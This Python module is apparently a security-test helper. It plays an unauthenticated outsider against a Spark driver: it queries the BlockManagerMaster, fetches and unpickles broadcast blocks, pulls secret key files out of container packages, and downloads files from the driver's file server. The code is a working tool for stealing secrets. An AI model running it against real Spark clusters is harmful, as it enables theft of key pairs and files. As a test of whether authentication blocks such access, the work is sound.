"""An outsider to a Spark application: a process that is no part of it and holds no secret, with
a Spark RPC client of its own, trying to take the container package (with the topology's key
pair) from the application's driver.

Run as a script (``python spark_outsider.py HOST RPC_PORT BLOCK_PORT``) it starts a bare JVM
with Spark's classes (``pyspark.java_gateway.launch_gateway``: no SparkContext, no
application), makes an ``RpcEnv`` in client mode and a block transfer client, both without
authentication, and:

1. asks the driver's ``BlockManagerMaster`` endpoint (on the driver's RPC port) where each
   broadcast's first piece lives (what an executor asks before it fetches one);
2. fetches the first piece of broadcasts 0 to `BROADCASTS` - 1 straight from the driver's block
   manager port (which a port scan finds; 0: none), decompresses each, and opens the container
   package in a PySpark broadcast's bytes;
3. fetches ``/files/<name>`` for each name given with ``--file`` from the driver's file server
   (Spark's ``openChannel``).

It prints one JSON document: whether the RPC was accepted, the broadcasts it fetched, the
errors it met (Spark's reasons), the base64 of every ``keys/*.key_secret`` it found in a
package, and the bytes of each file it fetched (base64). `outsider_fetch` runs it in a process
of its own session and ends that session (the JVM included) by pid.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import io
import json
import os
import pickle
import signal
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

BROADCASTS = 12
"""How many broadcast ids the outsider tries (an application's first broadcasts: the package
and the first jobs' task binaries)."""
_TIMEOUT = "10s"


def _innermost(exc: BaseException) -> str:
    cause: Any = getattr(exc, "java_exception", None)
    text = str(exc)
    while cause is not None:
        if cause.getMessage():
            text = str(cause.getMessage())
        cause = cause.getCause()
    return text.strip().splitlines()[0] if text.strip() else type(exc).__name__


def _block_data(data: bytes) -> bytes:
    """The bytes a Java object's ``writeObject`` wrote (its block-data records), from the
    serialized ``PythonBroadcast`` ``data``: the records follow the class descriptor (which
    ends with TC_ENDBLOCKDATA, TC_NULL)."""
    at = data.index(b"\x78\x70") + 2
    payload = bytearray()
    while at < len(data) and data[at] in (0x77, 0x7A):  # TC_BLOCKDATA, TC_BLOCKDATALONG
        if data[at] == 0x77:
            size, at = data[at + 1], at + 2
        else:
            size, at = int.from_bytes(data[at + 1 : at + 5], "big"), at + 5
        payload += data[at : at + size]
        at += size
    return bytes(payload)


def _secret_keys(value: object) -> list[str]:
    """The base64 of every ``keys/*.key_secret`` in ``value`` when it is a container package
    (a gzipped tar's bytes); [] otherwise."""
    if not isinstance(value, bytes):
        return []
    try:
        with tarfile.open(fileobj=io.BytesIO(value), mode="r:*") as tar:
            found = []
            for member in tar.getmembers():
                if member.name.startswith("keys/") and member.name.endswith(".key_secret"):
                    extracted = tar.extractfile(member)
                    if extracted is not None:
                        found.append(base64.b64encode(extracted.read()).decode())
            return found
    except tarfile.TarError:
        return []


def _unpickled(payload: bytes) -> object:
    """The pickled value in a PySpark broadcast's payload (after the broadcast's id)."""
    for start in range(min(len(payload), 64)):
        if payload[start] == 0x80:  # a pickle's PROTO opcode
            with contextlib.suppress(Exception):
                return pickle.loads(payload[start:])
    return None


def main(argv: list[str] | None = None) -> int:
    """Run the outsider (see the module's docstring); prints its JSON report."""
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("rpc_port", type=int)
    parser.add_argument("block_port", type=int)
    parser.add_argument("--file", action="append", default=[])
    args = parser.parse_args(argv)

    from pyspark import SparkConf
    from pyspark.java_gateway import launch_gateway

    gateway = launch_gateway(
        SparkConf(loadDefaults=False)
        .set("spark.master", "local[1]")
        .set("spark.ui.enabled", "false")
    )
    jvm = gateway.jvm
    spark = jvm.org.apache.spark
    conf = spark.SparkConf(False)
    conf.set("spark.app.id", "outsider").set("spark.network.timeout", _TIMEOUT)
    conf.set("spark.shuffle.io.maxRetries", "0")  # one try per block: a refusal is final
    security = spark.SecurityManager
    manager = security(
        conf,
        getattr(security, "$lessinit$greater$default$2")(),
        getattr(security, "$lessinit$greater$default$3")(),
    )
    report: dict[str, Any] = {
        "rpc": "",
        "fetched": [],
        "errors": [],
        "secret_keys": [],
        "files": {},
    }
    env = spark.rpc.RpcEnv.create("outsider", "127.0.0.1", 0, conf, manager, True)
    address = spark.rpc.RpcAddress(args.host, args.rpc_port)
    try:
        master = env.setupEndpointRef(address, "BlockManagerMaster")
        report["rpc"] = "accepted"
        any_tag = getattr(getattr(jvm.scala.reflect, "ClassTag$"), "MODULE$").Any()
        get_locations = getattr(spark.storage, "BlockManagerMessages$GetLocations")
        located = master.askSync(
            get_locations(spark.storage.BroadcastBlockId(0, "piece0")), any_tag
        )
        report["located"] = str(located.toString())
    except Exception as exc:
        report["rpc"] = "refused"
        report["errors"].append(f"rpc: {_innermost(exc)}")
    serializers = spark.serializer.SerializerManager(
        spark.serializer.JavaSerializer(conf), conf, jvm.scala.Option.empty()
    )
    transfers = spark.network.netty.NettyBlockTransferService(
        conf, manager, serializers, "127.0.0.1", "127.0.0.1", 0, 1, None
    )
    transfers.init(None)
    codec = spark.io.CompressionCodec.createCodec(conf)
    for broadcast in range(BROADCASTS if args.block_port else 0):
        block = f"broadcast_{broadcast}_piece0"
        try:
            buffer = transfers.fetchBlockSync(args.host, args.block_port, "driver", block, None)
            raw = bytes(spark.network.util.JavaUtils.bufferToArray(buffer.nioByteBuffer()))
        except Exception as exc:
            report["errors"].append(f"{block}: {_innermost(exc)}")
            continue
        report["fetched"].append(broadcast)
        stream = codec.compressedInputStream(jvm.java.io.ByteArrayInputStream(raw))
        data = bytes(stream.readAllBytes())
        if b"PythonBroadcast" in data[:100]:
            report["secret_keys"] += _secret_keys(_unpickled(_block_data(data)))
    for name in args.file:
        try:
            channel = env.openChannel(f"spark://{args.host}:{args.rpc_port}/files/{name}")
            stream = jvm.java.nio.channels.Channels.newInputStream(channel)
            report["files"][name] = base64.b64encode(bytes(stream.readAllBytes())).decode()
        except Exception as exc:
            report["errors"].append(f"/files/{name}: {_innermost(exc)}")
    with contextlib.suppress(Exception):
        transfers.close()
    with contextlib.suppress(Exception):
        env.shutdown()
    print(json.dumps(report), flush=True)
    return 0


def outsider_fetch(
    host: str, rpc_port: int, block_port: int, files: tuple[str, ...] = (), timeout: float = 240
) -> dict[str, Any]:
    """Run the outsider against the driver at ``host`` (its RPC and block manager ports) in a
    process of its own session; its report (see the module's docstring). The session (the
    outsider's JVM with it) is killed by pid afterwards, whatever happened.

    Raises:
        AssertionError: the outsider did not report (its output is in the message).
    """
    flags = [arg for name in files for arg in ("--file", name)]
    process = subprocess.Popen(
        [sys.executable, str(Path(__file__)), host, str(rpc_port), str(block_port), *flags],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parent)},
    )
    try:
        out, err = process.communicate(timeout=timeout)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()
    lines = [line for line in out.splitlines() if line.startswith("{")]
    assert lines, f"the outsider reported nothing (exit {process.returncode}):\n{out}\n{err}"
    report: dict[str, Any] = json.loads(lines[-1])
    return report


if __name__ == "__main__":
    sys.exit(main())
